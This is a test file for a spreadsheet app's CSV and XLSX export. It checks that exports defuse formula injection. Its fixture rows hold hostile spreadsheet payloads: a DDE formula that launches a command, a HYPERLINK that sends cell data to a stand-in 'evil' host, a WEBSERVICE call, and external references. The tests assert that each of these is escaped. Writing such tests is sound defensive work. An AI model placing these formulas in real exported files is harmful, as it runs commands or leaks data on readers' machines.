// npm test: once, on PostgreSQL (scripts/lib/service-tests.mjs): the database only backs the app; what is checked is formula injection through exports.
// Issue 17 §4: exported files cannot attack their reader. CSV cells a spreadsheet would run
// are written as text behind an apostrophe (unless formulas=keep); in XLSX only formulas the
// grid evaluates and that stay inside the file are formulas, with the grid's values.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { ERROR_CODES, SHEET_MAX_COLUMNS } from '@tessera/contracts';
import Papa from 'papaparse';
import * as XLSX from 'xlsx';
import { FORMULA_EVALUATION_MAX_CELLS } from '../../src/export/formula-values.js';
import { signupAdmin } from '../support/auth-helpers.js';
import { type ApiClient, apiClient } from '../support/api-client.js';
import { createTestApp, type TestApp } from '../support/test-app.js';

const DDE = "=cmd|' /C calc'!A0";
const LINK = '=HYPERLINK("https://evil"&B1)';

describe(`hostile: formula injection through exports`, () => {
  let t: TestApp;
  let api: ApiClient;
  let sheetId: string;
  before(async () => {
    t = await createTestApp();
    api = apiClient(t.app, (await signupAdmin(t.app)).accessToken);
    const data = [
      [DDE, -5, '=B1*2'],
      [LINK, 2.5, '=SUM(B1:B2)'],
      ['@SUM(1+1)', '-5', '+1+1'],
      ['\tTAB', '\r=1+1', '-1.5e3'],
      ['=[book.xlsx]Sheet1!A1', "='C:\\x\\[a.xlsx]S'!A1", '=WEBSERVICE("https://evil")'],
      ['=1+', '=B1/0', 'plain'],
    ];
    const res = await api.post('/api/v1/sheets', { name: 'Hostile', headers: ['=HEAD()', 'Number', 'Formula'], data });
    assert.equal(res.statusCode, 201, res.body);
    sheetId = res.json().id;
  });
  after(() => t.close());

  const csvRows = (text: string) => Papa.parse<string[]>(text, { skipEmptyLines: true }).data;

  it('CSV: cells led by = + - @ tab or CR are text behind an apostrophe; numbers stay numbers', async () => {
    const res = await api.get(`/api/v1/sheets/${sheetId}/export?format=csv`);
    assert.equal(res.statusCode, 200);
    assert.deepEqual(csvRows(res.body), [
      ["'=HEAD()", 'Number', 'Formula'],
      [`'${DDE}`, '-5', "'=B1*2"],
      [`'${LINK}`, '2.5', "'=SUM(B1:B2)"],
      ["'@SUM(1+1)", '-5', "'+1+1"],
      ["'\tTAB", "'\r=1+1", '-1.5e3'],
      ["'=[book.xlsx]Sheet1!A1", "'='C:\\x\\[a.xlsx]S'!A1", `'=WEBSERVICE("https://evil")`],
      ["'=1+", "'=B1/0", 'plain'],
    ]);
    // Quoting (§5) still applies to what the apostrophe leads: the CR-led cell is quoted.
    assert.match(res.body, /,"'\r=1\+1",/);
  });

  it('CSV with formulas=keep writes the cells as they are', async () => {
    const res = await api.get(`/api/v1/sheets/${sheetId}/export?format=csv&formulas=keep`);
    assert.equal(res.statusCode, 200);
    const rows = csvRows(res.body);
    assert.deepEqual(rows[1], [DDE, '-5', '=B1*2']);
    assert.deepEqual(rows[3], ['@SUM(1+1)', '-5', '+1+1']);
  });

  it('XLSX: grid formulas are formulas with their computed values; DDE, links, external references and unknown functions are text', async () => {
    const res = await api.get(`/api/v1/sheets/${sheetId}/export?format=xlsx&formulas=keep`);
    assert.equal(res.statusCode, 200);
    const ws = XLSX.read(res.rawPayload, { type: 'buffer', cellFormula: true }).Sheets.Hostile;
    const text = (addr: string, value: string) => {
      assert.equal(ws[addr]?.f, undefined, `${addr} must not be a formula`);
      assert.equal(ws[addr]?.t, 's', addr);
      assert.equal(ws[addr]?.v, value, addr);
    };
    const formula = (addr: string, f: string, v: unknown) => {
      assert.equal(ws[addr]?.f, f, addr);
      assert.equal(ws[addr]?.v, v, addr);
    };
    text('A1', '=HEAD()');
    text('A2', DDE);
    formula('C2', 'B2*2', -10);
    text('A3', LINK);
    formula('C3', 'SUM(B2:B3)', -2.5);
    text('A4', '@SUM(1+1)');
    text('C4', '+1+1');
    text('A6', '=[book.xlsx]Sheet1!A1');
    text('B6', "='C:\\x\\[a.xlsx]S'!A1");
    text('C6', '=WEBSERVICE("https://evil")');
    text('A7', '=1+');
    assert.equal(ws.B7?.f, 'B2/0');
    assert.equal(ws.B7?.t, 'e');
    assert.equal(ws.B7?.w, '#DIV/0!');
    assert.equal(ws.B2?.v, -5);
    assert.equal(ws.B2?.t, 'n');
  });

  it('XLSX of a sheet past the evaluation bound (its held cells, as the grid counts them): its formulas stay formulas, without computed values', async () => {
    const created = await api.post('/api/v1/sheets', { name: 'Big formulas', headers: ['n', 'f'], data: [[0, '=A1+1']] });
    assert.equal(created.statusCode, 201, created.body);
    const id = created.json().id;
    // A far cell holds its row out to the last column: this many rows are past the bound in a few cells each.
    const rows = Math.floor(FORMULA_EVALUATION_MAX_CELLS / SHEET_MAX_COLUMNS) + 1;
    const changes = Array.from({ length: rows }, (_, r) => [
      { row: r, col: 0, value: r },
      { row: r, col: SHEET_MAX_COLUMNS - 1, value: 'far' },
    ]).flat();
    const far = await api.patch(`/api/v1/sheets/${id}/cells`, { base_version: created.json().version, changes });
    assert.equal(far.statusCode, 200, far.body);
    const xlsx = await api.get(`/api/v1/sheets/${id}/export?format=xlsx`);
    assert.equal(xlsx.statusCode, 200);
    // sheetStubs: SheetJS skips a cell without a value unless asked.
    const ws = XLSX.read(xlsx.rawPayload, { type: 'buffer', cellFormula: true, sheetStubs: true }).Sheets['Big formulas'];
    assert.equal(ws.B2?.f, 'A2+1');
    // No cached value (SheetJS shows a stub's as 0); computed, it would be 1.
    assert.notEqual(ws.B2?.v, 1);
    assert.equal(ws[`A${rows + 1}`]?.v, rows - 1);
  });

  it("a bad formulas= value is refused with 400 and the option's text; nothing changes and /health answers", async () => {
    const before = (await api.get(`/api/v1/sheets/${sheetId}`)).json();
    for (const value of ['KEEP', 'raw', '', 'keep%00']) {
      const res = await api.get(`/api/v1/sheets/${sheetId}/export?format=csv&formulas=${value}`);
      assert.equal(res.statusCode, 400, value);
      assert.equal(res.json().error.code, ERROR_CODES.validation);
      assert.equal(res.json().error.message, `Unsupported formulas option: ${decodeURIComponent(value)} (use escape or keep)`);
    }
    const twice = await api.get(`/api/v1/sheets/${sheetId}/export?format=csv&formulas=keep&formulas=keep`);
    assert.equal(twice.statusCode, 400);
    const badFormat = await api.get(`/api/v1/sheets/${sheetId}/export?format=pdf&formulas=nope`);
    assert.equal(badFormat.json().error.message, 'Unsupported export format: pdf');
    const after = (await api.get(`/api/v1/sheets/${sheetId}`)).json();
    assert.equal(after.version, before.version);
    assert.deepEqual(after.data, before.data);
    assert.equal((await t.app.inject({ method: 'GET', url: '/health' })).statusCode, 200);
  });
});
